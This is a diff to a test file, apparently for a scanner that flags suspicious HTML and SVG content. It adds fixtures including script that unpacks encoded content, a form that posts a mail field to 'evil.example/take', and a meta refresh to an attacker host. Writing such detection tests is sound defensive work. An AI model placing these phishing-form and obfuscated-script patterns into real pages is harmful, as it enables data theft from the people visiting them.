@@ -177,7 +177,12 @@ def test_pdf(body: bytes, finding: str | None) -> None:
 @pytest.mark.parametrize(
     ("body", "wanted"),
     [
-        (b"<html><script>document.write(atob('eA=='))</script>", {"page-script"}),
+        (b"<html><script>document.write(atob('eA=='))</script>", {"page-script", "page-unpacks"}),
+        (b"<svg xmlns='x'><script>location.href = String.fromCharCode(104)</script>", {"page-script", "page-unpacks"}),
+        (b"<html><script>let x = atob('eA==')</script>", {"page-script"}),
+        (b"<html><p>atob(1) document.write</p>", set()),
+        (b"<html><form method=post action='https://evil.example/take'><input name=mail></form>", {"page-form"}),
+        (b"<html><form action=/search><input name=q></form><a href=https://a.example>x</a>", set()),
         (b"<html><body onload = 'go()'>", {"page-script"}),
         (b"<html><form><input name=p type='PassWord'></form>", {"page-password"}),
         (b"<html><meta http-equiv='refresh' content='0; url=http://evil.example/'>", {"page-leads-away"}),
@@ -188,7 +193,7 @@ def test_pdf(body: bytes, finding: str | None) -> None:
 )  # fmt: skip
 def test_pages(body: bytes, wanted: set[str]) -> None:
     found, findings = look(body, "a.html")
-    assert found.kind == "html"
+    assert found.kind in {"html", "svg"}
     assert set(findings) == wanted
 
 
